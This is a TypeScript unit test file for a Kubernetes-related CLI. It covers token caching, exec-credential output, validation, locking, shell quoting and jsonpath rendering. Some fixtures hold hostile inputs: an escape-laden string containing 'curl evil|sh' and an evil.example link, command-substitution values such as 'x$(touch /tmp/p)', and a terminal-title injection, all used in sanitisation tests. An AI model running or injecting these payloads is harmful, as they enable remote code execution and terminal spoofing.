// Table-driven tests of the pure pieces: cache key and freshness, the fast path's argv
// parsing, ExecCredential versions, input validation, durations, Retry-After, zone-less
// times, the Go CLI login reader, the file lock, PEM bundles, shell quoting, answer checks,
// jsonpath templates and tables fitted to the terminal.
import { describe, expect, it } from 'vitest';
import { mkdirSync, mkdtempSync, writeFileSync, readFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { cacheKey, isFresh, readCached, writeCached, clearCache, type CachedToken } from '../src/cache/token-cache';
import { execApiVersion, execCredential, parseKubeTokenArgs } from '../src/fastpath/kube-token';
import { isKubeToken } from '../src/main-dispatch';
import { namespaceProblem, parseDuration, parseEmail } from '../src/commands/shared/values';
import { parseTime, retryAfterMs } from '../src/core/time';
import { readGoCliLogin } from '../src/auth/gocli';
import { acquireLock } from '../src/core/lock';
import { age } from '../src/ui/output';

const tmp = () => mkdtempSync(join(tmpdir(), 'ankra-unit-'));

describe('token cache', () => {
  const base = { baseUrl: 'https://a', org: 'o', cluster: 'c', identity: 'session:1' };
  it('keys on every input that changes the token', () => {
    const k = cacheKey(base);
    expect(k).toMatch(/^[0-9a-f]{64}$/);
    for (const change of [{ baseUrl: 'https://b' }, { org: undefined }, { cluster: 'd' }, { identity: 'session:2' }]) {
      expect(cacheKey({ ...base, ...change })).not.toBe(k);
    }
  });

  const at = (issuedS: number, expiresS: number): CachedToken => ({
    v: 1,
    token: 't',
    issued_at: new Date(issuedS * 1000).toISOString(),
    expires_at: new Date(expiresS * 1000).toISOString(),
    base_url: 'https://a',
  });
  it.each([
    // lifetime 900 s: margin is max(60, 90) = 90 s
    { entry: at(0, 900), now: 0, fresh: true },
    { entry: at(0, 900), now: 809, fresh: true },
    { entry: at(0, 900), now: 810, fresh: false },
    // lifetime 300 s: margin is 60 s
    { entry: at(0, 300), now: 239, fresh: true },
    { entry: at(0, 300), now: 240, fresh: false },
    // already expired, or a lifetime shorter than the margin
    { entry: at(0, 100), now: 200, fresh: false },
    { entry: at(0, 30), now: 0, fresh: false },
  ])('isFresh at +$now s → $fresh', ({ entry, now, fresh }) => {
    expect(isFresh(entry, now * 1000)).toBe(fresh);
  });

  it('ignores corrupt and foreign files, writes 0600 files atomically, clears per server', () => {
    const dir = join(tmp(), 'tokens');
    const key = cacheKey(base);
    writeCached(dir, key, at(0, 900));
    expect(readCached(dir, key)?.token).toBe('t');
    for (const junk of ['', '{', 'null', '[]', '{"v":2,"token":"x"}', '{"v":1,"token":"","expires_at":"x","issued_at":"y"}']) {
      writeFileSync(join(dir, `${key}.json`), junk);
      expect(readCached(dir, key)).toBeUndefined();
    }
    writeCached(dir, key, at(0, 900));
    writeCached(dir, cacheKey({ ...base, baseUrl: 'https://b' }), { ...at(0, 900), base_url: 'https://b' });
    expect(clearCache(dir, 'https://b')).toBe(1);
    expect(readCached(dir, key)).toBeDefined();
    expect(clearCache(dir)).toBe(1);
  });
});

describe('exec plugin argv and output', () => {
  it.each([
    { argv: ['cluster', 'kube-token', '--cluster', 'abc'], want: { cluster: 'abc' } },
    { argv: ['cluster', 'kube-token', '--cluster=abc', '--org', 'o1'], want: { cluster: 'abc', org: 'o1' } },
    { argv: ['--base-url', 'https://x', 'cluster', 'kube-token', '--cluster', 'abc', '--debug'], want: { cluster: 'abc', baseUrl: 'https://x', debug: true } },
    { argv: ['cluster', 'kube-token', '--cluster', 'abc', '--ca-file', '/ca.pem'], want: { caFile: '/ca.pem' } },
  ])('parses $argv', ({ argv, want }) => {
    expect(parseKubeTokenArgs(argv)).toMatchObject(want);
  });

  it.each([
    ['cluster', 'kube-token', '--bogus'],
    ['cluster', 'kube-token', '--cluster'],
    ['cluster', 'list'],
    ['cluster', 'kube-token', '-o', 'json'],
  ])('leaves %j to the full CLI', (...argv) => {
    expect(parseKubeTokenArgs(argv)).toBeUndefined();
  });

  it('recognises the exec command for the fast path', () => {
    expect(isKubeToken(['cluster', 'kube-token', '--cluster', 'x'])).toBe(true);
    expect(isKubeToken(['--org', 'o', 'cluster', 'kube-token'])).toBe(true);
    expect(isKubeToken(['cluster', 'kube-token', '--help'])).toBe(false);
    expect(isKubeToken(['kube-token'])).toBe(false);
    expect(isKubeToken(['cluster', 'list'])).toBe(false);
  });

  it.each([
    [undefined, 'client.authentication.k8s.io/v1'],
    ['{"apiVersion":"client.authentication.k8s.io/v1beta1","spec":{"interactive":false}}', 'client.authentication.k8s.io/v1beta1'],
    ['{"apiVersion":"client.authentication.k8s.io/v1","spec":{"interactive":true}}', 'client.authentication.k8s.io/v1'],
    ['not json', 'client.authentication.k8s.io/v1'],
  ])('KUBERNETES_EXEC_INFO %s → %s', (info, want) => {
    expect(execApiVersion(info === undefined ? {} : { KUBERNETES_EXEC_INFO: info })).toBe(want);
  });

  it('prints one ExecCredential line with an RFC 3339 expiry', () => {
    const line = execCredential('tok', '2026-11-22T10:00:00.123Z', 'client.authentication.k8s.io/v1');
    expect(line.endsWith('\n')).toBe(true);
    expect(JSON.parse(line)).toEqual({
      apiVersion: 'client.authentication.k8s.io/v1',
      kind: 'ExecCredential',
      status: { token: 'tok', expirationTimestamp: '2026-11-22T10:00:00Z' },
    });
  });
});

describe('validation', () => {
  it.each([
    ['team-a', undefined],
    ['a', undefined],
    ['a'.repeat(63), undefined],
    ['Team-A', /upper-case/],
    ['-a', /start and end/],
    ['a-', /start and end/],
    ['a'.repeat(64), /64 characters/],
    ['a_b', /only a-z/],
    ['a.b', /only a-z/],
    ['', /empty/],
  ])('namespace %j', (ns, problem) => {
    const p = namespaceProblem(ns);
    if (problem === undefined) expect(p).toBeUndefined();
    else expect(p).toMatch(problem);
  });

  it.each(['alice@acme.test', 'a.b+c@sub.example.co.uk'])('accepts email %s', (e) => {
    expect(parseEmail(e)).toBe(e);
  });
  it.each(['alice', 'alice@', '@acme.test', 'alice@acme', 'a b@c.de', 'alice@acme.test.', `${'a'.repeat(250)}@b.co`])('rejects email %j', (e) => {
    expect(() => parseEmail(e)).toThrow(/email/);
  });

  it.each([
    ['90', 90_000],
    ['90s', 90_000],
    ['5m', 300_000],
    ['1h30m', 5_400_000],
    ['250ms', 250],
  ])('duration %s', (v, ms) => {
    expect(parseDuration(v)).toBe(ms);
  });
  it.each(['', '5x', 'm', '0', '-1s', '5m junk'])('rejects duration %j', (v) => {
    expect(() => parseDuration(v)).toThrow(/duration/);
  });
});

describe('small parsers', () => {
  it.each([
    [undefined, undefined],
    ['3', 3000],
    ['0', 0],
    ['Wed, 21 Oct 2015 07:28:10 GMT', 0],
    ['soon', undefined],
  ])('Retry-After %j', (v, ms) => {
    expect(retryAfterMs(v, Date.parse('2015-10-21T07:28:10Z'))).toBe(ms);
  });

  it('reads the Go CLI login without a YAML parser', () => {
    const dir = tmp();
    const p = join(dir, '.ankra.yaml');
    writeFileSync(p, '# ankra\nbase-url: "https://ankra.example"\ntoken: abc123  # comment\ntoken_id: x\n');
    expect(readGoCliLogin(p)).toEqual({ token: 'abc123', baseUrl: 'https://ankra.example', tokenId: 'x', tokenName: undefined });
    writeFileSync(p, 'token: ""\n');
    expect(readGoCliLogin(p)).toBeUndefined();
    expect(readGoCliLogin(join(dir, 'missing'))).toBeUndefined();
  });

  it.each([
    ['2026-11-22T10:00:00Z', Date.UTC(2026, 10, 22, 10)],
    ['2026-11-22T10:00:00', Date.UTC(2026, 10, 22, 10)],
    ['2026-11-22T10:00:00.250', Date.UTC(2026, 10, 22, 10, 0, 0, 250)],
    ['2026-11-22T12:00:00+02:00', Date.UTC(2026, 10, 22, 10)],
    ['2026-11-22', Date.UTC(2026, 10, 22)],
  ])('reads %s as UTC when it has no zone', (v, ms) => {
    expect(parseTime(v)).toBe(ms);
  });

  it.each([
    [5, '5s'],
    [300, '5m'],
    [3 * 3600, '3h'],
    [3 * 86400, '3d'],
  ])('age of %i s is %s', (s, want) => {
    expect(age(new Date(Date.now() - s * 1000).toISOString())).toBe(want);
  });
});

describe('file lock', () => {
  it('serialises holders and breaks a lock whose process is gone', async () => {
    const dir = tmp();
    const path = join(dir, 'x.lock');
    const order: string[] = [];
    const holder = async (name: string) => {
      const l = await acquireLock(path, { timeoutMs: 5000 });
      order.push(`${name}+`);
      await new Promise((r) => setTimeout(r, 20));
      order.push(`${name}-`);
      l.release();
    };
    await Promise.all(['a', 'b', 'c'].map(holder));
    for (let i = 0; i < order.length; i += 2) expect(order[i]?.slice(0, 1)).toBe(order[i + 1]?.slice(0, 1));
    expect(existsSync(path)).toBe(false);

    // A lock left by a dead process (pid 2^22+1 is beyond pid_max defaults) is broken at once.
    writeFileSync(path, `4194305 ${(await import('node:os')).hostname()} deadbeef`);
    const l = await acquireLock(path, { timeoutMs: 1000 });
    expect(readFileSync(path, 'utf8')).toContain(String(process.pid));
    l.release();
  });

  it('times out on a live lock with the next step in the message', async () => {
    const path = join(tmp(), 'y.lock');
    const held = await acquireLock(path);
    await expect(acquireLock(path, { timeoutMs: 150, what: 'the thing' })).rejects.toThrow(/timed out waiting for the lock on the thing/);
    held.release();
  });
});

describe('sha256 (the hot path avoids loading node:crypto)', () => {
  it('matches node:crypto for the empty string, FIPS vectors, block boundaries, UTF-8 and random input', async () => {
    const { createHash, randomBytes } = await import('node:crypto');
    const { sha256Hex } = await import('../src/core/sha256');
    const inputs = ['', 'abc', 'abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq', 'ü€😀', ...[55, 56, 63, 64, 65, 119, 120, 1000].map((n) => 'x'.repeat(n))];
    for (let i = 0; i < 200; i++) inputs.push(randomBytes(i * 3).toString('base64'));
    expect(sha256Hex('abc')).toBe('ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad');
    for (const s of inputs) expect(sha256Hex(s), JSON.stringify(s)).toBe(createHash('sha256').update(s, 'utf8').digest('hex'));
  });
});

describe('which server and credential', () => {
  const setup = (files: { config?: object; gocli?: string }) => {
    const home = tmp();
    const env = { HOME: home, XDG_CONFIG_HOME: join(home, 'cfg'), XDG_CACHE_HOME: join(home, 'cache') };
    if (files.config) {
      mkdirSync(join(home, 'cfg', 'ankra'), { recursive: true });
      writeFileSync(join(home, 'cfg', 'ankra', 'config.json'), JSON.stringify(files.config));
    }
    if (files.gocli) writeFileSync(join(home, '.ankra.yaml'), files.gocli);
    return env;
  };

  it('the exec plugin ignores the last login server: entries pin theirs, the Go CLI\'s never had one', async () => {
    const { resolve } = await import('../src/auth/source');
    const { resolvePaths } = await import('../src/core/paths');
    const env = setup({ config: { version: 1, current_base_url: 'https://other.example', servers: {} } });
    expect(resolve({}, env, resolvePaths(env)).target.baseUrl).toBe('https://other.example');
    expect(resolve({}, env, resolvePaths(env), { exec: true }).target.baseUrl).toBe('https://platform.ankra.app');
    expect(resolve({ baseUrl: 'https://pinned.example/' }, env, resolvePaths(env), { exec: true }).target.baseUrl).toBe('https://pinned.example');
  });

  it("sends the Go CLI's token only to the Go CLI's own server", async () => {
    const { resolve } = await import('../src/auth/source');
    const { resolvePaths } = await import('../src/core/paths');
    const env = setup({ gocli: 'base-url: https://ankra.corp.example\ntoken: gocli-secret\n' });
    const at = (baseUrl?: string) => resolve({ baseUrl }, env, resolvePaths(env)).source?.kind;
    expect(at()).toBe('gocli'); // its base-url is also the default target then
    expect(at('https://ankra.corp.example')).toBe('gocli');
    expect(at('https://platform.ankra.app')).toBeUndefined();
    expect(at('http://127.0.0.1:8080')).toBeUndefined();
    const noUrl = setup({ gocli: 'token: gocli-secret\n' });
    expect(resolve({}, noUrl, resolvePaths(noUrl)).source?.kind).toBe('gocli');
    expect(resolve({ baseUrl: 'https://elsewhere.example' }, noUrl, resolvePaths(noUrl)).source).toBeUndefined();
  });
});

describe('text from servers on the terminal', () => {
  it('oneLine strips escape sequences and control characters and joins lines', async () => {
    const { oneLine, messageOf, AnkraError } = await import('../src/errors');
    const evil = 'denied\u001b[2J\u001b]8;;https://evil.example\u0007click\u001b]8;;\u0007\n\u001b[31mFAKE: run curl evil|sh\u001b[0m\r\nok\u0007\u009b';
    expect(oneLine(evil)).toBe('deniedclick FAKE: run curl evil|sh ok');
    expect(messageOf(new AnkraError(evil, 1, { hint: 'run `ankra login`\u001b[1A' }))).toBe('deniedclick FAKE: run curl evil|sh ok; run `ankra login`');
  });
});

describe('PEM bundles and shell words', () => {
  it('keeps only the certificates of a bundle, and names what it dropped', async () => {
    const { certificatesOf } = await import('../src/core/pem');
    const cert = '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----';
    const key = '-----BEGIN PRIVATE KEY-----\nMIIE\n-----END PRIVATE KEY-----';
    expect(certificatesOf(`${cert}\n${key}\r\n${cert}\n`)).toEqual({ pem: `${cert}\n${cert}\n`, count: 2, dropped: ['PRIVATE KEY'] });
    expect(certificatesOf('hello').count).toBe(0);
  });

  it.each([
    ['staging', 'staging'],
    ['alice@example.com', 'alice@example.com'],
    ['x$(touch /tmp/p)', "'x$(touch /tmp/p)'"],
    ["it's", "'it'\\''s'"],
    ['a b', "'a b'"],
    ['`id`', "'`id`'"],
  ])('quotes %j for a copy-paste hint as %s', async (word, want) => {
    const { shellWord } = await import('../src/errors');
    expect(shellWord(word)).toBe(want);
  });
});

describe('answers checked at the API boundary', () => {
  it('names the request and the field of a missing or wrong-typed value, and drops wrong-typed optional ones', async () => {
    const { Checker } = await import('../src/api/validate');
    const c = new Checker('GET /x');
    expect(() => c.object({ id: 7 }, 'result[2]', { required: { id: 'string' } })).toThrow('the Ankra API sent a malformed answer to GET /x: result[2].id is a number (7), not a string');
    expect(() => c.object({}, 'g', { required: { id: 'string' } })).toThrow('g.id is missing');
    expect(() => c.list({}, 'result')).toThrow('result is an object, not a list');
    const o = { id: 'a', state: 7, extra: true };
    expect(c.object(o, '', { required: { id: 'string' }, optional: { state: 'string' } })).toEqual({ id: 'a', extra: true });
    expect(o.state).toBe(7); // the answer itself is not changed
  });
});

describe('jsonpath templates (-o jsonpath=…)', () => {
  const data = [
    { id: 'g1', user_email: 'alice@x', role: 'view', namespace: null, n: 3, tags: { a: 1 } },
    { id: 'g2', user_email: 'bob@x', role: 'edit', namespace: 'team-a', n: 5, tags: { a: 2 } },
  ];
  it.each([
    ['{.[*].user_email}', 'alice@x bob@x'],
    ['{[*].id}', 'g1 g2'],
    ['{range .[*]}{.id}{"\t"}{.role}{"\n"}{end}', 'g1\tview\ng2\tedit\n'],
    ['{.[?(@.role=="edit")].user_email}', 'bob@x'],
    ['{.[?(@.n > 3)].id}', 'g2'],
    ['{.[?(@.namespace)].id}', 'g2'],
    ['{.[0].tags}', '{"a":1}'],
    ['{.[-1].id}', 'g2'],
    ['{.[0:1].id}', 'g1'],
    ['{..a}', '1 2'],
    ['{.[0].missing}', ''],
    ['{range .[*]}{.namespace}{"|"}{end}', '|team-a|'], // null prints nothing, as a missing field
    ['count: {.[1].n}', 'count: 5'],
  ])('%s', async (template, want) => {
    const { renderJsonPath } = await import('../src/ui/jsonpath');
    expect(renderJsonPath(template, data)).toBe(want);
  });

  it('refuses a broken template in one line (usage)', async () => {
    const { renderJsonPath } = await import('../src/ui/jsonpath');
    expect(() => renderJsonPath('{.[*', data)).toThrow(/invalid jsonpath template .*never closed/);
    expect(() => renderJsonPath('{range .[*]}{.id}', data)).toThrow(/\{range\} without \{end\}/);
  });

  it('values cannot drive a terminal', async () => {
    const { renderJsonPath } = await import('../src/ui/jsonpath');
    expect(renderJsonPath('{.name}', { name: 'x\u001b]0;PWNED\u0007\u001b[2Jy' })).toBe('xy');
  });
});

// ------------------------------------------------------------------ package.json engines

/** The few range forms npm packages use in `engines.node`: `>=`, `>`, `<`, `<=`, `^`, `~`, `x`, `||`. */
function satisfies(version: string, range: string): boolean {
  const v = version.split('.').map(Number);
  const cmp = (a: number[], b: number[]) => (a[0]! - b[0]! || a[1]! - b[1]! || a[2]! - b[2]!);
  const parse = (s: string): number[] => {
    const parts = s.split('.').map((p) => (p === 'x' || p === '*' ? 0 : Number(p)));
    if (parts.length > 3 || parts.some((p) => !Number.isInteger(p))) throw new Error(`cannot read the version ${JSON.stringify(s)} in ${JSON.stringify(range)}`);
    return [parts[0] ?? 0, parts[1] ?? 0, parts[2] ?? 0];
  };
  return range.split('||').some((alt) =>
    alt
      .trim()
      .replace(/([<>=^~]+)\s+/g, '$1')
      .split(/\s+/)
      .every((c) => {
        const m = /^(>=|<=|>|<|\^|~|=)?v?([\dx*.]+)$/.exec(c);
        if (!m) throw new Error(`cannot read the comparator ${JSON.stringify(c)} in ${JSON.stringify(range)}`);
        const [, op = '', ver = ''] = m;
        const b = parse(ver);
        const xMajor = /^\d+\.(x|\*)/.test(ver) || /^\d+$/.test(ver);
        switch (op) {
          case '>=': return cmp(v, b) >= 0;
          case '>': return cmp(v, b) > 0;
          case '<=': return cmp(v, b) <= 0;
          case '<': return cmp(v, b) < 0;
          case '^': return cmp(v, b) >= 0 && v[0] === b[0];
          case '~': return cmp(v, b) >= 0 && v[0] === b[0] && v[1] === b[1];
          default: return xMajor ? v[0] === b[0] : cmp(v, b) === 0;
        }
      }),
  );
}

describe('package.json engines', () => {
  /** The oldest Node the README names for development (`npm test`: vitest and vite need it). */
  const DEVELOPMENT = ['20.19.0', '22.13.0'];

  it('installs without EBADENGINE on every Node it allows, and the development tools run on the Node the README names', () => {
    const root = join(import.meta.dirname, '..');
    const ours = (JSON.parse(readFileSync(join(root, 'package.json'), 'utf8')) as { engines: { node: string } }).engines.node;
    // The oldest Node of each line our range allows.
    const lowest = ours.split('||').map((alt) => /(\d+\.\d+\.\d+)/.exec(alt)?.[1] ?? '');
    expect(lowest).toEqual(['20.18.1']);
    for (const v of lowest) expect(satisfies(v, ours)).toBe(true);
    expect(satisfies('20.18.0', ours)).toBe(false);
    for (const v of DEVELOPMENT) expect(satisfies(v, ours)).toBe(true);
    // Every package of the lock file: what `npm install -g` brings (runtime) must take our
    // lowest Node; the development ones, the README's.
    const lock = JSON.parse(readFileSync(join(root, 'package-lock.json'), 'utf8')) as { packages: Record<string, { dev?: boolean; optional?: boolean; engines?: { node?: string } | string[] }> };
    const refused: string[] = [];
    let runtime = 0;
    for (const [path, p] of Object.entries(lock.packages)) {
      const range = !Array.isArray(p.engines) ? p.engines?.node : undefined;
      if (!path || !range) continue;
      const name = path.replace(/^.*node_modules\//, '');
      if (!p.dev) runtime++;
      for (const v of p.dev ? DEVELOPMENT : lowest) if (!satisfies(v, range)) refused.push(`${name} (${range}) refuses Node ${v}${p.dev ? ' (development)' : ''}`);
    }
    expect(runtime).toBeGreaterThan(20);
    expect(refused).toEqual([]);
    // the reader itself, on forms seen in the wild
    expect([satisfies('20.19.0', '>=20.18.1'), satisfies('20.16.0', '>= 20.16.0'), satisfies('20.11.0', '^20.19.0 || >=22.12.0'), satisfies('4.2.0', '4.x || >=6.0.0'), satisfies('5.0.0', '4.x || >=6.0.0')]).toEqual([true, true, false, true, false]);
  });
});

// ------------------------------------------------------------------ ~/.ankra.yaml logout edits

describe("blanking the Go CLI's login in ~/.ankra.yaml", () => {
  it('replaces only the five values, keeps line endings, comments and the rest, adds missing keys', async () => {
    const { blankGoCliLogin } = await import('../src/auth/gocli-write');
    const dir = mkdtempSync(join(tmpdir(), 'ankra-gocli-'));
    const file = join(dir, '.ankra.yaml');
    const blank = 'base-url: ""\ntoken_id: ""\ntoken_name: ""\nmachine_id: ""\n';
    const cases: Array<[string, string]> = [
      ['token:\nbase-url: x\n', 'token: ""\nbase-url: ""\ntoken_id: ""\ntoken_name: ""\nmachine_id: ""\n'],
      ['token:\r\nbase-url: x\r\neditor: vim\r\n', 'token: ""\r\nbase-url: ""\r\neditor: vim\r\ntoken_id: ""\r\ntoken_name: ""\r\nmachine_id: ""\r\n'],
      ['token: abc # mine\nother: 1', `token: "" # mine\nother: 1\n${blank}`],
      ['a: 1\ntoken: "q"\n', `a: 1\ntoken: ""\n${blank}`],
    ];
    for (const [before, after] of cases) {
      writeFileSync(file, before, { mode: 0o600 });
      await blankGoCliLogin(file);
      expect(readFileSync(file, 'utf8'), JSON.stringify(before)).toBe(after);
    }
  });
});
